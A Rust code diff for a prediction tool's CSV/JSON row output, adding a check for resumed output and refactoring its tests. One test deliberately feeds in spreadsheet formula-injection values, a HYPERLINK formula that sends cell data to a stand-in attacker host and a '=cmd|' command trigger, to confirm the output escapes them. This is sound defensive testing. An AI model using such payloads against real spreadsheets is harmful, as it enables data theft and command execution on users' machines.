@@ -1,15 +1,18 @@
 //! A row of the output, as a line of CSV or JSON.
 
-pub use calmix_io::shown::escaped;
 use calmix_run::csv_line::{CsvCell, csv_line};
 use serde::Serialize;
 
-use super::input_kind::InputKind;
 use super::prediction_rule::Prediction;
 use crate::args::predict::RowKind;
+use crate::error::CliError;
+use crate::output::format::grouped;
+use crate::predict::input::InputKind;
+
+pub use calmix_io::shown::escaped;
 
 /// The content of a row: the prediction for an input, or the reason why it could not be read.
-#[derive(Debug)]
+#[derive(Debug, Default)]
 pub struct PredictedRow<'a> {
     /// The name of the input, as [`escaped`] writes it.
     pub name: String,
@@ -20,7 +23,7 @@ pub struct PredictedRow<'a> {
 }
 
 /// The format of rows.
-#[derive(Debug)]
+#[derive(Debug, Default)]
 pub struct RowFormat<'a> {
     pub kind: RowKind,
     /// What the rows are about.
@@ -142,32 +145,54 @@ fn text_cell(text: &str) -> CsvCell<'static> {
     }
 }
 
+/// The rows that an interrupted output already has.
+#[derive(Debug, Default, PartialEq, Eq)]
+pub struct WrittenRows {
+    /// The number of complete rows.
+    pub rows: u64,
+    /// The beginning of the last row, which names its input.
+    pub last: String,
+}
+
+impl WrittenRows {
+    /// Checks that the last of the rows is about this input.
+    ///
+    /// # Errors
+    /// If the inputs have changed since the rows were written.
+    pub fn check_last(&self, format: &RowFormat<'_>, name: Option<&str>) -> Result<(), CliError> {
+        if name.is_some_and(|name| self.last.starts_with(&format.beginning(name))) {
+            return Ok(());
+        }
+        let input = format.input.word();
+        let message = format!("{input} {} is not the one that was predicted before", grouped(self.rows));
+        let hint = format!("the list of {input}s has changed: predict it into another file");
+        Err(CliError::invalid(message).hint(hint))
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    fn prediction(margin: f32) -> Prediction {
+        Prediction {
+            label: 0,
+            confidence: 0.75,
+            margin,
+            probabilities: vec![0.75, 0.25],
+            set: Some(vec![0, 1]),
+            abstain: Some(false),
+        }
+    }
 
     /// Numbers stay numbers, and two paths never have the same cell.
     #[test]
     fn csv_guards_spreadsheet_formulas() {
         let classes = ["=HYPERLINK(\"http://evil.example/?\"&A2,\"cat\")".to_owned(), "-1".to_owned()];
-        let prediction = Prediction {
-            label: 0,
-            confidence: 0.75,
-            margin: -0.5,
-            probabilities: vec![0.75, 0.25],
-            set: Some(vec![0, 1]),
-            abstain: Some(false),
-        };
-        let format = RowFormat {
-            kind: RowKind::Csv,
-            input: InputKind::Image,
-            classes: &classes,
-            probabilities: false,
-            features: false,
-            rows_of_part: 1,
-        };
+        let prediction = prediction(-0.5);
+        let format = RowFormat { classes: &classes, ..RowFormat::default() };
         let row = |path: &str, prediction| {
-            format.row(&PredictedRow { name: path.to_owned(), prediction, features: None, error: None })
+            format.row(&PredictedRow { name: path.to_owned(), prediction, ..PredictedRow::default() })
         };
         let class = "'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"cat\"\")";
         let expected = format!("'=cmd|calc.png,\"{class}\",0.75,-0.5,\"{class}|-1\",false,\n");
@@ -186,33 +211,19 @@ mod tests {
     #[test]
     fn a_row_is_one_line_whatever_the_names() {
         let classes = ["cat, big".to_owned(), "a|b\n".to_owned()];
-        let prediction = Prediction {
-            label: 0,
-            confidence: 0.75,
-            margin: 0.5,
-            probabilities: vec![0.75, 0.25],
-            set: Some(vec![0, 1]),
-            abstain: Some(false),
-        };
+        let prediction = prediction(0.5);
         let format = |kind, probabilities| RowFormat {
             kind,
-            input: InputKind::Image,
             classes: &classes,
             probabilities,
-            features: false,
-            rows_of_part: 1,
+            ..RowFormat::default()
         };
         let path = escaped(b"a\xffb\n\"\\.png");
         assert_eq!(path, r#"a\xffb\x0a"\x5c.png"#);
         let (csv, jsonl) = (format(RowKind::Csv, true), format(RowKind::Jsonl, false));
-        let image =
-            PredictedRow { name: path.clone(), prediction: Some(&prediction), features: None, error: None };
-        let bad = PredictedRow {
-            name: path.clone(),
-            prediction: None,
-            features: None,
-            error: Some("no, image".to_owned()),
-        };
+        let row = || PredictedRow { name: path.clone(), ..PredictedRow::default() };
+        let image = PredictedRow { prediction: Some(&prediction), ..row() };
+        let bad = PredictedRow { error: Some("no, image".to_owned()), ..row() };
         let row = csv.row(&image);
         let start = r#""a\xffb\x0a""\x5c.png","#;
         assert_eq!(row, format!("{start}\"cat, big\",0.75,0.5,\"cat, big|a\\x7cb\\x0a\",false,,0.75,0.25\n"));
